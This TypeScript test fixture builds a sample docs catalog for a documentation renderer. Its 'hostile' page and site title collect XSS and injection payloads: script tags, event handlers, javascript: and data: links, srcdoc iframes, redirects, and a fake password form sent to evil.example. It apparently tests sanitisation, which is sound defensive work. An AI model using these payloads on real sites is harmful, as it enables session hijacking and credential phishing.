import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';

/** A folder with a catalog and the docs of its components, to be read, changed and removed. */
export interface DocsFolder {
  /** The file to be loaded. */
  readonly catalog: string;
  write(file: string, text: string): Promise<void>;
  remove(): Promise<void>;
}

export async function writeDocs(files: Readonly<Record<string, string>>): Promise<DocsFolder> {
  const folder = await mkdtemp(path.join(tmpdir(), 'callboard-docs-'));
  const write = async (file: string, text: string) => {
    await mkdir(path.dirname(path.join(folder, file)), { recursive: true });
    await writeFile(path.join(folder, file), text);
  };
  for (const [file, text] of Object.entries(files)) await write(file, text);
  return {
    catalog: path.join(folder, 'all.yaml'),
    write,
    remove: () => rm(folder, { recursive: true, force: true }),
  };
}

const component = (name: string, annotations = "backstage.io/techdocs-ref: 'dir:.'") =>
  `apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: ${name}
  annotations: { ${annotations} }
spec: { type: service, lifecycle: production, owner: group:default/checkout }
`;

const picture =
  '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120"><rect width="400" height="120" fill="#148896"/></svg>';

const overview = `# Checkout

Everything about **checkout**. Read [how to retry](guides/retry.md#limits), or the [code](#code).

## Code

\`\`\`python title="checkout.py" hl_lines="2"
def place(order):
    return client.post("/orders", order)  # the same on every retry
\`\`\`

## Parts

!!! warning "Keys are forgotten"
    A retry that comes later is a new order.

=== "npm"

    Installed with npm.

=== "yarn"

    Installed with yarn.

| Case | Status |
| ---- | -----: |
| Done |    200 |

- [x] written
- [ ] read

## Diagram

\`\`\`mermaid
flowchart LR
  storefront --> checkout
\`\`\`

## Picture

![How it fits](img/parts.svg)
`;

const retry = `# Retry with a limit

Back off from 200 ms.

${'A paragraph that makes the page long enough to scroll.\n\n'.repeat(40)}
## Limits

Stop after five tries, says the word albatross.
`;

/** What somebody would write who wants more than a text. */
export const hostile = `# Hostile <script>window.hacked = 'title'</script>

<script>window.hacked = 'script';</script>
<img src="x" onerror="window.hacked = 'onerror'">
<svg onload="window.hacked = 'svg'"><script>window.hacked = 'svg script'</script></svg>
<details open ontoggle="window.hacked = 'toggle'"><summary>s</summary>x</details>
<a id="plain" href="javascript:window.hacked='link'">plain</a>
<a id="mixed" href=" JaVa&#x09;ScRiPt:window.hacked='mixed'">mixed</a>
<a id="data" href="data:text/html,<script>window.hacked='data'</script>">data</a>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>parent.hacked='srcdoc'</script>"></iframe>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<style>body { display: none } .cb-rail { display: none }</style>
<div style="position:fixed;inset:0;background:red;z-index:9999;width:100vw;height:100vh" class="cb-overlay cb-modal-inner">over everything</div>
<object data="data:text/html,x"></object><embed src="data:text/html,x">

[markdown](javascript:window.hacked='markdown') ![image](javascript:window.hacked='image')

\`\`\`mermaid
flowchart LR
  a["<img src=x onerror=parent.hacked='diagram'>"] --> b
  click b "javascript:window.hacked='click'"
  click a call alert("x")
\`\`\`

The end of it.
`;

/** A site with the usual, a README alone, and a hostile site. */
export const docsFiles = {
  'all.yaml': `apiVersion: backstage.io/v1alpha1
kind: Location
metadata: { name: all }
spec: { targets: [./checkout/catalog-info.yaml, ./plain/catalog-info.yaml, ./hostile/catalog-info.yaml, ./handbook/catalog-info.yaml] }
---
apiVersion: backstage.io/v1alpha1
kind: Group
metadata: { name: checkout }
spec: { type: team, children: [] }
`,
  'checkout/catalog-info.yaml': component('checkout'),
  'checkout/mkdocs.yml': `site_name: Checkout docs
repo_url: https://git.example/checkout
edit_uri: edit/main/docs/
plugins: [techdocs-core]
nav:
  - Start: index.md
  - Guides:
      - Retry: guides/retry.md
      - Elsewhere: https://example.org/
`,
  'checkout/docs/index.md': overview,
  'checkout/docs/guides/retry.md': retry,
  'checkout/docs/img/parts.svg': picture,
  'plain/catalog-info.yaml': component('plain'),
  'plain/README.md': '# Plain\n\nOnly a README, with the word pelican.\n',
  'hostile/catalog-info.yaml': component('hostile'),
  'hostile/mkdocs.yml': `site_name: 'Hostile <img src=x onerror=window.hacked=1>'\nplugins: [techdocs-core]\n`,
  'hostile/docs/index.md': hostile,
};

/** The entity of a site in a repository, with its tags as versions. */
export const handbookEntity = (repository: string) => ({
  'handbook/catalog-info.yaml': component(
    'handbook',
    `backstage.io/techdocs-ref: 'url:${repository}', callboard.io/docs-versions: 'v*'`,
  ),
});

/** An edition of that site. */
export const handbookFiles = (edition: string) => ({
  'mkdocs.yml': 'site_name: Handbook\nrepo_url: https://github.com/acme/handbook\n',
  'docs/index.md': `# Handbook\n\nThe ${edition} edition. Read [on](more.md).\n\n=== "npm"\n\n    By npm.\n\n=== "yarn"\n\n    By yarn.\n`,
  'docs/more.md': `# More\n\nMore of the ${edition} edition.\n`,
});
